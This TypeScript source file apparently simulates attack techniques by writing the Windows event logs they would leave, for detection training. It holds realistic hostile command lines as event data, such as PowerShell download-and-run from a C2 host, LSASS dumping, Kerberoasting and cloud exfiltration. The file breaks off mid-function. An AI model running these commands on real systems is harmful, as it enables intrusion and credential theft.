/**
 * The attack actions scenario steps refer to by name. Each writes the Windows events a real execution of the
 * technique leaves (Sysmon, Security, System, PowerShell), on the hosts involved, and returns when it ended.
 */
import type { World } from './background';
import { dayIndex, psexecOnto } from './background';
import * as B from './builders';
import { CMD_EXE, POWERSHELL_EXE, SYSTEM32 } from './catalog';
import type { SimHost, SimUser } from './org';
import { numParam, StepParams, strParam } from './scenarios';
import type { EventLabel, Proc } from './win_event';

export interface Actors {
  victim: SimHost;
  victimUser: SimUser;
  pivot: SimHost;
  server: SimHost;
  fileServer: SimHost;
  dc: SimHost;
  admin: SimUser;
  attackerIp: string;
  c2Domain: string;
  c2Ip: string;
  tunnelDomain: string;
  cloud: readonly [string, string];
}

export interface CampaignState {
  implant?: Proc;
  implantPath: string;
  stagingDir: string;
  archive?: string;
  /** Host the operator currently works on (moves with lateral movement). */
  current: SimHost;
  /** Process the operator currently runs commands from on `current`. */
  shell?: Proc;
}

export interface ActionCtx {
  world: World;
  label: EventLabel;
  t: number;
  actors: Actors;
  state: CampaignState;
}

export type Action = (a: ActionCtx, p: StepParams) => number;

function ctx(a: ActionCtx, host: SimHost): B.Ctx {
  return { org: a.world.org, host, rng: a.world.rng, out: a.world.out, label: a.label };
}

function userAcct(a: ActionCtx): B.Account {
  return B.account(a.world.org, a.actors.victimUser);
}

function adminAcct(a: ActionCtx): B.Account {
  return B.account(a.world.org, a.actors.admin);
}

/** The operator's shell on the current host, started from the implant if there is none yet. */
function operatorShell(a: ActionCtx, t: number): Proc {
  if (a.state.shell) return a.state.shell;
  const c = ctx(a, a.state.current);
  const parent =
    a.state.implant ??
    B.explorerProc(a.world.org, a.state.current, a.actors.victimUser, dayIndex(t, a.state.current));
  a.state.shell = B.spawn(
    c,
    t,
    parent,
    B.newProc(c, CMD_EXE, `"${CMD_EXE}"`, parent.user, parent.logonId, parent.integrity, parent.cwd),
  );
  return a.state.shell;
}

function run(a: ActionCtx, t: number, image: string, commandLine: string): Proc {
  const c = ctx(a, a.state.current);
  const sh = operatorShell(a, t - 200);
  return B.spawn(c, t, sh, B.newProc(c, image, commandLine, sh.user, sh.logonId, sh.integrity, sh.cwd));
}

function beaconOnce(a: ActionCtx, t: number, bytesOut: number, bytesIn: number): void {
  const c = ctx(a, a.state.current);
  const proc = a.state.implant ?? operatorShell(a, t);
  B.connect(c, t, proc, {
    dstIp: a.actors.c2Ip,
    dstPort: 443,
    dstHost: a.actors.c2Domain,
    bytesOut,
    bytesIn,
  });
}

const phishOpen: Action = (a, p) => {
  const { org, rng } = a.world;
  const host = a.actors.victim;
  const user = a.actors.victimUser;
  const c = ctx(a, host);
  const explorer = B.explorerProc(org, host, user, dayIndex(a.t, host));
  const acct = userAcct(a);
  const outlook = B.spawn(
    c,
    a.t,
    explorer,
    B.newProc(
      c,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
      acct,
      explorer.logonId,
      'Medium',
    ),
  );
  const doc = `C:\\Users\\${user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${rng.alnum(8).toUpperCase()}\\${strParam(p, 'attachment', 'Invoice_0423.docm')}`;
  B.fileCreate(c, a.t + 4000, outlook, doc);
  const word = B.spawn(
    c,
    a.t + 9000,
    outlook,
    B.newProc(
      c,
      'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${doc}" /o ""`,
      acct,
      explorer.logonId,
      'Medium',
    ),
  );
  const enc = Buffer.from(
    `IEX (New-Object Net.WebClient).DownloadString('https://${a.actors.c2Domain}/a')`,
    'utf16le',
  ).toString('base64');
  const ps = B.spawn(
    c,
    a.t + 15000,
    word,
    B.newProc(
      c,
      POWERSHELL_EXE,
      `powershell.exe -nop -w hidden -enc ${enc}`,
      acct,
      explorer.logonId,
      'Medium',
    ),
  );
  B.scriptBlock(
    c,
    a.t + 15500,
    `IEX (New-Object Net.WebClient).DownloadString('https://${a.actors.c2Domain}/a')`,
    acct,
  );
  B.dnsQuery(c, a.t + 16000, ps, a.actors.c2Domain, [a.actors.c2Ip]);
  B.connect(c, a.t + 16200, ps, {
    dstIp: a.actors.c2Ip,
    dstPort: 443,
    dstHost: a.actors.c2Domain,
    bytesOut: 900,
    bytesIn: rng.int(180000, 260000),
  });
  a.state.implantPath = `C:\\Users\\${user.name}\\AppData\\Roaming\\${strParam(p, 'implantDir', 'Microsoft\\Teams\\Update')}\\${strParam(p, 'implantName', 'TeamsUpdate.exe')}`;
  B.fileCreate(c, a.t + 19000, ps, a.state.implantPath);
  a.state.implant = B.spawn(
    c,
    a.t + 21000,
    ps,
    B.newProc(c, a.state.implantPath, `"${a.state.implantPath}"`, acct, explorer.logonId, 'Medium'),
  );
  a.state.current = host;
  a.state.shell = undefined;
  return a.t + 22000;
};

const c2Beacon: Action = (a, p) => {
  const { rng } = a.world;
  const count = numParam(p, 'count', 30);
  const interval = numParam(p, 'intervalSeconds', 300) * 1000;
  const jitter = numParam(p, 'jitter', 0.2);
  let t = a.t;
  const c = ctx(a, a.state.current);
  const proc = a.state.implant ?? operatorShell(a, t);
  B.dnsQuery(c, t, proc, a.actors.c2Domain, [a.actors.c2Ip]);
  for (let i = 0; i < count; i++) {
    beaconOnce(a, t, rng.int(300, 900), rng.int(200, 2000));
    t += interval * (1 + jitter * (2 * rng.next() - 1));
  }
  return t;
};

const DISCOVERY: Record<string, [string, string]> = {
  whoami: [`${SYSTEM32}\\whoami.exe`, 'whoami /all'],
  domain_admins: [`${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain'],
  domain_users: [`${SYSTEM32}\\net.exe`, 'net user /domain'],
  dclist: [`${SYSTEM32}\\nltest.exe`, 'nltest /dclist:'],
  trusts: [`${SYSTEM32}\\nltest.exe`, 'nltest /domain_trusts /all_trusts'],
  systeminfo: [`${SYSTEM32}\\systeminfo.exe`, 'systeminfo'],
  ipconfig: [`${SYSTEM32}\\ipconfig.exe`, 'ipconfig /all'],
  netview: [`${SYSTEM32}\\net.exe`, 'net view /domain'],
  tasklist: [`${SYSTEM32}\\tasklist.exe`, 'tasklist /v'],
};

/** Discovery commands that name an actor of the scenario (the file server whose data the campaign is after). */
const ACTOR_DISCOVERY: Record<string, (a: ActionCtx) => [string, string]> = {
  dir_share: (a) => [
    `${SYSTEM32}\\cmd.exe`,
    `cmd.exe /c dir /s /b \\\\${a.actors.fileServer.name}\\Departments`,
  ],
};

const discovery: Action = (a, p) => {
  const raw = p.commands;
  const commands = Array.isArray(raw) ? raw : Object.keys(DISCOVERY);
  let t = a.t;
  for (const key of commands) {
    const entry = DISCOVERY[key] ?? ACTOR_DISCOVERY[key]?.(a);
    if (!entry) throw new Error(`discovery: unknown command "${key}"`);
    run(a, t, entry[0], entry[1]);
    t += a.world.rng.int(5000, numParam(p, 'maxGapSeconds', 90) * 1000);
  }
  if (commands.includes('domain_admins') || commands.includes('domain_users')) {
    const c = ctx(a, a.state.current);
    B.dnsQuery(
      c,
      a.t + 1000,
      operatorShell(a, a.t),
      `_ldap._tcp.dc._msdcs.${a.world.org.dnsDomain}`,
      [`0 100 389 ${a.actors.dc.fqdn}`],
      '0',
      'SRV',
    );
    B.connect(c, a.t + 1200, operatorShell(a, a.t), {
      dstIp: a.actors.dc.ip,
      dstPort: 389,
      dstHost: a.actors.dc.fqdn,
      bytesOut: 4000,
      bytesIn: 60000,
    });
  }
  return t;
};

const stageFiles: Action = (a, p) => {
  const { org, rng } = a.world;
  const fs = a.actors.fileServer;
  const host = a.state.current;
  const c = ctx(a, host);
  const acct = userAcct(a);
  a.state.stagingDir = strParam(p, 'stagingDir', 'C:\\Users\\Public\\Libraries\\cache');
  const files = numParam(p, 'files', 40);
  const share = strParam(p, 'share', 'Departments');
  const folder = strParam(p, 'folder', 'Finance');
  const robo = run(
    a,
    a.t,
    `${SYSTEM32}\\Robocopy.exe`,
    `robocopy \\\\${fs.name}\\${share}\\${folder} ${a.state.stagingDir} *.xlsx *.docx *.pdf /S /R:0`,
  );
  const fc = ctx(a, fs);
  const logonId = B.logonIdFor(fs, acct.name, a.t);
  B.kerberosTgs(
    ctx(a, a.actors.dc),
    a.t - 300,
    acct,
    `${fs.name}$`,
    `${org.domainSid}-${20000 + fs.index}`,
    host.ip,
  );
  B.logon(fc, a.t + 200, {
    target: acct,
    logonType: 3,
    logonId,
    srcIp: host.ip,
    srcPort: rng.int(49152, 65535),
  });
  let t = a.t + 500;
  let total = 0;
  for (let i = 0; i < files; i++) {
    const name = `${folder}\\${rng.pick(['2024', '2025', 'board', 'payroll', 'm&a'])}\\${rng.pick(['forecast', 'salaries', 'contract', 'acquisition', 'budget'])}-${rng.int(1, 999)}.${rng.pick(['xlsx', 'docx', 'pdf'])}`;
    B.shareAccess(fc, t, acct, logonId, host.ip, share, `D:\\Shares\\${share}`, name);
    B.fileCreate(c, t + 150, robo, `${a.state.stagingDir}\\${name.slice(name.lastIndexOf('\\') + 1)}`);
    total += rng.logNormal(800000, 1);
    t += rng.int(200, 3000);
  }
  B.connect(c, a.t + 300, B.systemProc(org, host, 'system'), {
    dstIp: fs.ip,
    dstPort: 445,
    dstHost: fs.fqdn,
    bytesOut: total * 0.02,
    bytesIn: total,
  });
  return t;
};

const compress: Action = (a, p) => {
  const tool = strParam(p, 'tool', '7z');
  const c = ctx(a, a.state.current);
  a.state.archive = `${a.state.stagingDir}\\${strParam(p, 'archiveName', 'cache.7z')}`;
  if (tool === 'powershell') {
    const ps = run(
      a,
      a.t,
      POWERSHELL_EXE,
      `powershell.exe -nop -c "Compress-Archive -Path ${a.state.stagingDir}\\* -DestinationPath ${a.state.archive}"`,
    );
    B.scriptBlock(
      c,
      a.t + 300,
      `Compress-Archive -Path ${a.state.stagingDir}\\* -DestinationPath ${a.state.archive}`,
      ps.user,
    );
    B.fileCreate(c, a.t + 40000, ps, a.state.archive);
  } else {
    const exe = tool === 'rar' ? 'C:\\Users\\Public\\rar.exe' : 'C:\\Users\\Public\\7za.exe';
    if (tool === 'rar' || tool === '7z')
      B.fileCreate(c, a.t - 5000, a.state.implant ?? operatorShell(a, a.t - 6000), exe);
    const arch = run(
      a,
      a.t,
      exe,
      `${exe} a -p${a.world.rng.alnum(10)} -mhe=on ${a.state.archive} ${a.state.stagingDir}\\*`,
    );
    B.fileCreate(c, a.t + 45000, arch, a.state.archive);
  }
  return a.t + 50000;
};

const exfilCloud: Action = (a, p) => {
  const { rng } = a.world;
  const c = ctx(a, a.state.current);
  const [name, ip] = a.actors.cloud;
  const totalMb = numParam(p, 'megabytes', 900);
  const chunks = numParam(p, 'chunks', 1);
  const exe =
    strParam(p, 'tool', 'rclone') === 'rclone'
      ? 'C:\\Users\\Public\\Libraries\\rclone.exe'
      : `${SYSTEM32}\\curl.exe`;
  if (exe.endsWith('rclone.exe'))
    B.fileCreate(c, a.t - 3000, a.state.implant ?? operatorShell(a, a.t - 4000), exe);
  const up = run(
    a,
    a.t,
    exe,
    exe.endsWith('rclone.exe')
      ? `${exe} copy ${a.state.archive ?? a.state.stagingDir} remote:backup --transfers 4 -q`
      : `curl.exe -T ${a.state.archive} https://${name}/upload`,
  );
  let t = a.t + 800;
  B.dnsQuery(c, t, up, name, [ip]);
  for (let i = 0; i < chunks; i++) {
    t += 1000 + (chunks > 1 ? rng.int(60000, numParam(p, 'chunkGapMinutes', 30) * 60000) : 0);
    B.connect(c, t, up, {
      dstIp: ip,
      dstPort: 443,
      dstHost: name,
      bytesOut: (totalMb * 1048576) / chunks,
      bytesIn: rng.int(20000, 90000),
    });
  }
  return t + 1000;
};

const exfilC2: Action = (a, p) => {
  const { rng } = a.world;
  const totalMb = numParam(p, 'megabytes', 300);
  const chunks = numParam(p, 'chunks', 20);
  let t = a.t;
  for (let i = 0; i < chunks; i++) {
    beaconOnce(a, t, (totalMb * 1048576) / chunks, rng.int(300, 900));
    t += rng.int(30000, numParam(p, 'chunkGapSeconds', 600) * 1000);
  }
  return t;
};

/** iodine/dnscat-like: long encoded labels under one domain, TXT answers, steady polling. */
const dnsTunnel: Action = (a, p) => {
  const { rng } = a.world;
  const c = ctx(a, a.state.current);
  const style = strParam(p, 'style', 'iodine');
  const queries = numParam(p, 'queries', 600);
  const interval = numParam(p, 'intervalSeconds', 5) * 1000;
  const tool =
    style === 'dnscat' ? 'C:\\Users\\Public\\Libraries\\dnscat2.exe' : 'C:\\ProgramData\\iodine\\iodine.exe';
  B.fileCreate(c, a.t - 4000, a.state.implant ?? operatorShell(a, a.t - 5000), tool);
  const proc = run(
    a,
    a.t,
    tool,
    style === 'dnscat'
      ? `${tool} --dns server=${a.actors.c2Ip},domain=${a.actors.tunnelDomain} --secret=${rng.hex(16)}`
      : `${tool} -f -P ${rng.alnum(8)} ${a.actors.tunnelDomain}`,
  );
  let t = a.t + 1000;
  for (let i = 0; i < queries; i++) {
    const name =
      style === 'dnscat'
        ? `${rng.hex(2 * rng.int(20, 30))}.${rng.hex(2 * rng.int(10, 25))}.${a.actors.tunnelDomain}`
        : `${rng.pick(['p', 'y', 'z', 't'])}${rng.alnum(rng.int(40, 60), 'abcdefghijklmnopqrstuvwxyz012345')}.${rng.alnum(rng.int(20, 50), 'abcdefghijklmnopqrstuvwxyz012345')}.${a.actors.tunnelDomain}`;
    const txt = rng.chance(0.6);
    B.dnsQuery(
      c,
      t,
      proc,
      name,
      [
        txt
          ? rng.alnum(rng.int(60, 200), 'abcdefghijklmnopqrstuvwxyz0123456789+/')
          : `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`,
      ],
      '0',
      txt ? 'TXT' : 'A',
    );
    t += interval * (0.5 + rng.next());
  }
  return t;
};

function lateralPrelude(
  a: ActionCtx,
  target: SimHost,
  t: number,
  acct: B.Account,
  port: number,
  tool: Proc,
): void {
  const c = ctx(a, a.state.current);
  B.explicitLogon(c, t - 200, tool, acct, target.fqdn, target.ip);
  B.connect(c, t, tool, {
    dstIp: target.ip,
    dstPort: port,
    dstHost: target.fqdn,
    bytesOut: a.world.rng.int(5000, 400000),
    bytesIn: a.world.rng.int(3000, 50000),
  });
}

function pickTarget(a: ActionCtx, p: StepParams): SimHost {
  const which = strParam(p, 'target', 'server');
  if (which === 'pivot') return a.actors.pivot;
  if (which === 'dc') return a.actors.dc;
  if (which === 'fileserver') return a.actors.fileServer;
  if (which === 'jump') return a.world.org.hosts[a.world.org.jumpHost];
  return a.actors.server;
}

function credentialFor(a: ActionCtx, p: StepParams): B.Account {
  return strParam(p, 'as', 'admin') === 'admin' ? adminAcct(a) : userAcct(a);
}

function moveTo(a: ActionCtx, target: SimHost, shell: Proc): void {
  a.state.current = target;
  a.state.shell = shell;
  a.state.implant = shell;
}

const lateralPsexec: Action = (a, p) => {
  const target = pickTarget(a, p);
  const acct = credentialFor(a, p);
  const tool = run(
    a,
    a.t,
    'C:\\Users\\Public\\Libraries\\PsExec64.exe',
    `C:\\Users\\Public\\Libraries\\PsExec64.exe \\\\${target.name} -accepteula -s cmd.exe`,
  );
  const c = ctx(a, a.state.current);
  B.explicitLogon(c, a.t + 100, tool, acct, target.fqdn, target.ip);
  const shell = psexecOnto(
    a.world,
    c,
    a.t + 300,
    tool,
    target,
    acct,
    a.label,
    strParam(p, 'auth', 'Kerberos') === 'NTLM' ? 'NTLM' : 'Kerberos',
    'cmd.exe',
  );
  moveTo(a, target, shell);
  return a.t + 2000;
};

const lateralWmi: Action = (a, p) => {
  const { org } = a.world;
  const target = pickTarget(a, p);
  const acct = credentialFor(a, p);
  const enc = Buffer.from(
    `IEX (New-Object Net.WebClient).DownloadString('https://${a.actors.c2Domain}/b')`,
    'utf16le',
  ).toString('base64');
  const tool = run(
    a,
    a.t,
    `${SYSTEM32}\\wbem\\WMIC.exe`,
    `wmic /node:${target.name} process call create "powershell.exe -nop -w hidden -enc ${enc}"`,
  );
  lateralPrelude(a, target, a.t + 200, acct, 135, tool);
  const tc = ctx(a, target);
  const logonId = B.logonIdFor(target, acct.name, a.t);
  B.logon(tc, a.t + 400, {
    target: acct,
    logonType: 3,
    logonId,
    srcIp: a.state.current.ip,
    srcPort: a.world.rng.int(49152, 65535),
    privileged: true,
  });
  const ps = B.spawn(
    tc,
    a.t + 900,
    B.systemProc(org, target, 'wmiprvse'),
    B.newProc(tc, POWERSHELL_EXE, `powershell.exe -nop -w hidden -enc ${enc}`, acct, logonId, 'High'),
  );
  B.dnsQuery(tc, a.t + 1500, ps, a.actors.c2Domain, [a.actors.c2Ip]);
  B.connect(tc, a.t + 1700, ps, {
    dstIp: a.actors.c2Ip,
    dstPort: 443,
    dstHost: a.actors.c2Domain,
    bytesOut: 1200,
    bytesIn: 150000,
  });
  moveTo(a, target, ps);
  return a.t + 3000;
};

const lateralWinrm: Action = (a, p) => {
  const target = pickTarget(a, p);
  const acct = credentialFor(a, p);
  const c = ctx(a, a.state.current);
  const ps = run(
    a,
    a.t,
    POWERSHELL_EXE,
    `powershell.exe -nop -c "Invoke-Command -ComputerName ${target.name} -ScriptBlock { whoami; hostname }"`,
  );
  B.scriptBlock(
    c,
    a.t + 200,
    `Invoke-Command -ComputerName ${target.name} -ScriptBlock { whoami; hostname }`,
    ps.user,
  );
  lateralPrelude(a, target, a.t + 400, acct, 5985, ps);
  const tc = ctx(a, target);
  const logonId = B.logonIdFor(target, acct.name, a.t);
  B.logon(tc, a.t + 600, {
    target: acct,
    logonType: 3,
    logonId,
    srcIp: a.state.current.ip,
    srcPort: a.world.rng.int(49152, 65535),
    privileged: true,
  });
  const host = B.spawn(
    tc,
    a.t + 900,
    B.systemProc(a.world.org, target, 'svchost'),
    B.newProc(
      tc,
      `${SYSTEM32}\\wsmprovhost.exe`,
      `${SYSTEM32}\\wsmprovhost.exe -Embedding`,
      acct,
      logonId,
      'High',
    ),
  );
  B.spawn(
    tc,
    a.t + 1200,
    host,
    B.newProc(tc, `${SYSTEM32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe"', acct, logonId, 'High'),
  );
  moveTo(a, target, host);
  return a.t + 2000;
};

const lateralRdp: Action = (a, p) => {
  const target = pickTarget(a, p);
  const acct = credentialFor(a, p);
  const mstsc = run(a, a.t, `${SYSTEM32}\\mstsc.exe`, `mstsc.exe /v:${target.fqdn}`);
  lateralPrelude(a, target, a.t + 300, acct, 3389, mstsc);
  const tc = ctx(a, target);
  const logonId = B.logonIdFor(target, acct.name, a.t);
  B.logon(tc, a.t + 2000, {
    target: acct,
    logonType: 10,
    logonId,
    srcIp: a.state.current.ip,
    srcPort: a.world.rng.int(49152, 65535),
    auth: 'Negotiate',
    privileged: true,
  });
  const explorer = { ...B.explorerProc(a.world.org, target, a.actors.admin, 0), logonId };
  const cmd = B.spawn(
    tc,
    a.t + 30000,
    explorer,
    B.newProc(tc, CMD_EXE, `"${CMD_EXE}"`, acct, logonId, 'High'),
  );
  moveTo(a, target, cmd);
  return a.t + 31000;
};

/** Mimikatz sekurlsa::pth on the source (logon type 9) then an NTLM network logon on the target. */
const passTheHash: Action = (a, p) => {
  const target = pickTarget(a, p);
  const acct = credentialFor(a, p);
  const c = ctx(a, a.state.current);
  const sh = operatorShell(a, a.t - 100);
  const newLogon = B.logonIdFor(a.state.current, acct.name, `pth${a.t}`);
  B.logon(c, a.t, {
    target: { ...sh.user },
    logonType: 9,
    logonId: newLogon,
    srcIp: '::1',
    srcPort: 0,
    auth: 'Negotiate',
    workstation: a.state.current.name,
  });
  const child = B.spawn(
    c,
    a.t + 300,
    sh,
    B.newProc(c, CMD_EXE, `"${CMD_EXE}" /c dir \\\\${target.name}\\C$`, sh.user, newLogon, sh.integrity),
  );
  B.connect(c, a.t + 500, B.systemProc(a.world.org, a.state.current, 'system'), {
    dstIp: target.ip,
    dstPort: 445,
    dstHost: target.fqdn,
    bytesOut: 9000,
    bytesIn: 15000,
  });
  const tc = ctx(a, target);
  const logonId = B.logonIdFor(target, acct.name, a.t);
  B.logon(tc, a.t + 700, {
    target: acct,
    logonType: 3,
    logonId,
    srcIp: a.state.current.ip,
    srcPort: a.world.rng.int(49152, 65535),
    auth: 'NTLM',
    workstation: a.state.current.name,
    privileged: true,
  });
  B.shareAccess(tc, a.t + 800, acct, logonId, a.state.current.ip, 'C$', 'C:\\');
  B.ntlmValidate(ctx(a, a.actors.dc), a.t + 650, acct.name, a.state.current.name);
  void child;
  return a.t + 2000;
};

const uacBypass: Action = (a) => {
  const c = ctx(a, a.state.current);
  const sh = operatorShell(a, a.t - 100);
  const user = a.actors.victimUser;
  const ps = run(
    a,
    a.t,
    POWERSHELL_EXE,
    'powershell.exe -nop -w hidden -c "New-Item HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command -Force; Set-ItemProperty ..."',
  );
  B.registrySet(
    c,
    a.t + 400,
    ps,
    `HKU\\${user.sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)`,
    `cmd.exe /c ${a.state.implantPath}`,
  );
  B.registrySet(
    c,
    a.t + 500,
    ps,
    `HKU\\${user.sid}_Classes\\ms-settings\\shell\\open\\command\\DelegateExecute`,
    '(Empty)',
  );
  const fod = B.spawn(
    c,
    a.t + 1200,
    ps,
    B.newProc(
      c,
      `${SYSTEM32}\\fodhelper.exe`,
      '"C:\\Windows\\system32\\fodhelper.exe"',
      sh.user,
      sh.logonId,
      'High',
    ),
  );
  const elevated = B.spawn(
    c,
    a.t + 1800,
    fod,
    B.newProc(c, CMD_EXE, `"cmd.exe" /c ${a.state.implantPath}`, sh.user, sh.logonId, 'High'),
  );
  a.state.implant = B.spawn(
    c,
    a.t + 2100,
    elevated,
    B.newProc(c, a.state.implantPath, `"${a.state.implantPath}"`, sh.user, sh.logonId, 'High'),
  );
  a.state.shell = undefined;
  return a.t + 2500;
};

const serviceCreate: Action = (a, p) => {
  const { org } = a.world;
  const c = ctx(a, a.state.current);
  const name = strParam(p, 'serviceName', 'WinUpdSvc');
  const bin = strParam(p, 'binary', 'C:\\Users\\Public\\Libraries\\winupd.exe');
  const sh = operatorShell(a, a.t - 100);
  B.fileCreate(c, a.t - 2000, a.state.implant ?? sh, bin);
  run(a, a.t, `${SYSTEM32}\\sc.exe`, `sc.exe create ${name} binPath= "${bin}" start= auto`);
  B.registrySet(
    c,
    a.t + 300,
    B.systemProc(org, a.state.current, 'services'),
    `HKLM\\System\\CurrentControlSet\\Services\\${name}\\ImagePath`,
    bin,
  );
  B.serviceInstall(c, a.t + 350, sh.user, sh.logonId, name, bin, 'auto start');
  run(a, a.t + 2000, `${SYSTEM32}\\sc.exe`, `sc.exe start ${name}`);
  const svc = B.spawn(
    c,
    a.t + 2500,
    B.systemProc(org, a.state.current, 'services'),
    B.newProc(c, bin, `"${bin}"`, B.SYSTEM_ACCOUNT, '0x3e7', 'System'),
  );
  a.state.implant = svc;
  a.state.shell = undefined;
  return a.t + 3000;
};

/** Open winlogon with query/duplicate rights and start a SYSTEM shell from the stolen token. */
const tokenTheft: Action = (a) => {
  const { org } = a.world;
  const c = ctx(a, a.state.current);
  const src = a.state.implant ?? operatorShell(a, a.t - 100);
  const winlogon = B.systemProc(org, a.state.current, 'winlogon');
  B.processAccess(
    c,
    a.t,
    src,
    winlogon,
    '0x1400',
    `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|${src.image}+1a2f3`,
  );
  B.logon(c, a.t + 200, {
    target: B.SYSTEM_ACCOUNT,
    logonType: 9,
    logonId: B.logonIdFor(a.state.current, 'SYSTEM', `tok${a.t}`),
    srcIp: '::1',
    srcPort: 0,
    auth: 'Negotiate',
    privileged: true,
  });
  const sys = B.spawn(
    c,
    a.t + 400,
    src,
    B.newProc(c, CMD_EXE, `"${CMD_EXE}"`, B.SYSTEM_ACCOUNT, '0x3e7', 'System'),
  );
  a.state.shell = sys;
  return a.t + 1000;
};

const lsassDump: Action = (a, p) => {
  const { org } = a.world;
  const c = ctx(a, a.state.current);
  const lsass = B.systemProc(org, a.state.current, 'lsass');
  const method = strParam(p, 'method', 'comsvcs');
  let dumper: Proc;
  const out = strParam(p, 'dumpPath', 'C:\\Windows\\Temp\\debug.bin');
  if (method === 'comsvcs') {
    dumper = run(
      a,
      a.t,
      `${SYSTEM32}\\rundll32.exe`,
      `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${out} full`,
    );
    B.processAccess(
      c,
      a.t + 300,
      dumper,
      lsass,
      '0x1fffff',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|C:\\Windows\\System32\\comsvcs.dll+3a2c1|C:\\Windows\\System32\\rundll32.exe+3bc5`,
    );
  } else {
    const tool = 'C:\\Users\\Public\\Libraries\\mm.exe';
    B.fileCreate(c, a.t - 3000, a.state.implant ?? operatorShell(a, a.t - 4000), tool);
    dumper = run(a, a.t, tool, `${tool} "privilege::debug" "sekurlsa::logonpasswords" exit`);
    B.processAccess(
      c,
      a.t + 300,
      dumper,
      lsass,
      '0x1010',
      `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcce|${tool}+a1b2c`,
    );
  }
  B.fileCreate(c, a.t + 2000, dumper, out);
  return a.t + 3000;
};

/** Request RC4 service tickets for every SPN-bearing account in a burst. */
const kerberoast: Action = (a) => {
  const { org, rng } = a.world;
  const ps = run(
    a,
    a.t,
    POWERSHELL_EXE,
    'powershell.exe -nop -ep bypass -c "IEX(iwr https://' +
      a.actors.c2Domain +
      '/r.ps1 -UseBasicParsing); Invoke-Kerberoast -OutputFormat Hashcat"',
  );
  B.scriptBlock(
    ctx(a, a.state.current),
    a.t + 200,
    'Invoke-Kerberoast -OutputFormat Hashcat | Out-File -Encoding ascii C:\\Users\\Public\\Libraries\\h.txt',
    ps.user,
    'C:\\Users\\Public\\Libraries\\r.ps1',
  );
  const dc = ctx(a, a.actors.dc);
  let t = a.t + 1000;
  for (const idx of org.serviceAccounts) {
    const svc = org.users[idx];
    B.kerberosTgs(dc, t, userAcct(a), svc.name, svc.sid, a.state.current.ip, '0x17');
    t += rng.int(50, 400);
  }
  B.connect(ctx(a, a.state.current), a.t + 900, ps, {
    dstIp: a.actors.dc.ip,
    dstPort: 88,
    dstHost: a.actors.dc.fqdn,
    bytesOut: 8000,
    bytesIn: 30000,
  });
  B.fileCreate(ctx(a, a.state.current), t + 500, ps, 'C:\\Users\\Public\\Libraries\\h.txt');
  return t + 1000;
};

/** Password guessing against one account on a target from one source. */
const bruteForce: Action = (a, p) => {
  const { org, rng } = a.world;
  const target = pickTarget(a, p);
  const attempts = numParam(p, 'attempts', 60);
  const user = strParam(p, 'user', 'admin') === 'admin' ? adminAcct(a) : userAcct(a);
  const src = strParam(p, 'source', 'external') === 'external' ? a.actors.attackerIp : a.state.current.ip;
  const tc = ctx(a, target);
  let t = a.t;
  for (let i = 0; i < attempts; i++) {
    B.logonFailed(
      tc,
      t,
      user,
      target.role === 'jump' ? 10 : 3,
      src,
      'badPassword',
      rng.pick(['kali', '-', 'WIN-R4ND0M']),
    );
    if (i % 3 === 0) B.ntlmValidate(ctx(a, a.actors.dc), t + 20, user.name, 'kali', '0xc000006a');
    t += rng.int(800, numParam(p, 'maxGapMs', 4000));
  }
  if (p.succeed === true)
    B.logon(tc, t, {
      target: user,
      logonType: 3,
      logonId: B.logonIdFor(target, user.name, t),
      srcIp: src,
      srcPort: rng.int(49152, 65535),
      auth: 'NTLM',
      workstation: 'kali',
      privileged: true,
    });
  void org;
  return t + 1000;
};

/** A few common passwords against many accounts, slowly, against the DC. */
const passwordSpray: Action = (a, p) => {
  const { org, rng } = a.world;
  const accounts = numParam(p, 'accounts', 40);
  const dcx = ctx(a, a.actors.dc);
  const src = a.state.current.ip;
  let t = a.t;
  const users = org.users.filter((u) => u.kind === 'user');
  for (let round = 0; round < numParam(p, 'rounds', 2); round++) {
    for (let i = 0; i < accounts; i++) {
      const u = users[(i * 7 + round) % users.length];
      B.logonFailed(dcx, t, B.account(org, u), 3, src, 'badPassword', a.state.current.name);
      B.kerberosTgt(dcx, t + 5, B.account(org, u), src, '0x18');
      t += rng.int(1000, numParam(p, 'gapMs', 6000));
    }
    t += numParam(p, 'roundGapMinutes', 30) * 60000;
  }
  return t;
};

const runKey: Action = (a, p) => {
  const c = ctx(a, a.state.current);
  const name = strParam(p, 'valueName', 'OneDriveSync');
  const reg = run(
    a,
    a.t,
    `${SYSTEM32}\\reg.exe`,
    `reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v ${name} /t REG_SZ /d "${a.state.implantPath}" /f`,
  );
  B.registrySet(
    c,
    a.t + 200,
    reg,
    `HKU\\${a.actors.victimUser.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${name}`,
    a.state.implantPath,
  );
  return a.t + 1000;
};

const scheduledTask: Action = (a, p) => {
  const c = ctx(a, a.state.current);
  const name = strParam(p, 'taskName', '\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh');
  const sh = operatorShell(a, a.t - 100);
  run(
    a,
    a.t,
    `${SYSTEM32}\\schtasks.exe`,
    `schtasks /create /tn "${name}" /tr "${a.state.implantPath}" /sc daily /st 09:15 /f`,
  );
  B.taskCreated(c, a.t + 300, sh.user, sh.logonId, name, a.state.implantPath, '');
  return a.t + 1000;
};

const ingressTool: Action = (a, p) => {
  const c = ctx(a, a.state.current);
  const dest = strParam(p, 'path', 'C:\\Users\\Public\\Libraries\\svc.exe');
  const cert = run(
    a,
    a.t,
